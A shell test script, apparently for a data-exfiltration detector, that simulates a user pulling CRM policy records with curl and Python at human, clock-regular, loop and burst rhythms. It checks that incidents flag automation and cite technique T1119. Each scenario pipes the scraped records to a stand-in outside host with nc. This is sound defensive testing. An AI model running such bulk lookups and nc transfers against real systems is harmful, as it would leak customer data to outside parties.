#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# Who looked it up: a person or a loop. Rows go out that a person has looked up with her pauses, that
# a loop has looked up with always the same, that a loop has looked up as fast as it could, that a program
# has looked up which people do not use for the CRM, and that came all at once when a connection had
# long stood idle.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
set_the_stage

policy=$work/policy.conf
sed 's/^#client = .*/client = curl/' "$root/userspace/policy/example.conf" >"$policy"
crm_serves crm.test
for host in im.test mail.test pan.test shop.test; do store_serves "$host" 9000; done
weir_watches

# by RECIPIENT: the reasons of automation in its incident, for an expression.
by() {
	echo "[a['reason'] for i in d if i['sinks'][0]['name'] == '$1' for a in i['addends'] if a['detector'] == 'automation']"
}

goes_out_to() { # RECIPIENT
	incidents_say "[i for i in d if i['sinks'][0]['name'] == '$1' and i['sources'][0]['name'] == 'crm.test']"
}

say "twenty-four lookups with a person's pauses"
alice_does <<'END'
number=100
for pause in 0.4 2.1 0.9 0.3 3.0 0.6 1.2 0.5 2.6 0.8 0.4 1.7 0.3 0.9 2.2 0.6 0.5 1.9 0.4 1.1 0.7 2.4 0.3 0.8; do
	curl -sS "https://crm.test/policy/P2020555$number" >>by-hand.json
	number=$((number + 1))
	sleep $pause
done
nc -N im.test 9000 <by-hand.json
END
soon "they went out" goes_out_to im.test
then_it "and nothing is said of a machine" incidents_say "$(by im.test) == []"

say "twenty-four lookups, one every second and a half"
alice_does <<'END'
for number in $(seq 200 223); do
	curl -sS "https://crm.test/policy/P2020555$number" >>by-clock.json
	sleep 1.5
done
nc -N mail.test 9000 <by-clock.json
END
soon "they are as regular as a clock" \
	incidents_say "len($(by mail.test)) == 1 and 'curl made about 2' in $(by mail.test)[0] and 'as regular as a clock' in $(by mail.test)[0]"
soon "the technique is named" \
	incidents_say "['T1119' in i['attack'] for i in d if i['sinks'][0]['name'] in ('mail.test', 'im.test')].count(True) == 1"

say "fifty lookups as fast as a loop can"
alice_does <<'END'
for number in $(seq 300 349); do
	curl -sS "https://crm.test/policy/P2020555$number" >>by-loop.json
done
nc -N pan.test 9000 <by-loop.json
END
soon "they are faster than any person" \
	incidents_say "len($(by pan.test)) == 1 and 'faster than any person' in $(by pan.test)[0]"

say "three lookups by a program of one's own"
cat >"$home/ask.py" <<'END'
import ssl, urllib.request
context = ssl.create_default_context(cafile=".tls.crt")
for number in "P2020555401", "P2020555402", "P2020555403":
    with urllib.request.urlopen("https://crm.test/policy/" + number, context=context) as answer:
        open("by-program.json", "ab").write(answer.read())
END
alice_does <<'END'
/usr/bin/python3 ask.py
nc -N shop.test 9000 <by-program.json
END
soon "it is none that the policy expects" \
	incidents_say "len($(by shop.test)) == 1 and 'crm.test were made by python3' in $(by shop.test)[0]
		and 'none of the programs that the policy expects' in $(by shop.test)[0]"
say "sixty lookups at once, on a connection that had stood idle for forty seconds"
cat >"$home/keep.py" <<'END'
import http.client, ssl, time
context = ssl.create_default_context(cafile=".tls.crt")
crm = http.client.HTTPSConnection("crm.test", context=context)
def look_up(number):
    crm.request("GET", "/policy/P2020555%d" % number)
    open("by-burst.json", "ab").write(crm.getresponse().read())
look_up(500)
time.sleep(40)
for number in range(501, 561):
    look_up(number)
END
alice_does <<'END'
/usr/bin/python3 keep.py
nc -N shop.test 9000 <by-burst.json
END
soon "they are faster than any person, too" \
	incidents_say "[a for a in $(by shop.test) if 'python3' in a and 'faster than any person' in a]"
number=$("$python" -c 'import json, sys
print(next(i["id"] for i in json.load(open(sys.argv[1])) if i["sinks"][0]["name"] == "mail.test"))' "$work/incidents.json")
"$weir" show "$number" --lang zh --data "$data" >"$work/show-zh.txt" 2>&1
then_it "it is told in Chinese, too" grep -q "间隔十分均匀" <(tr -d '\n ' <"$work/show-zh.txt")
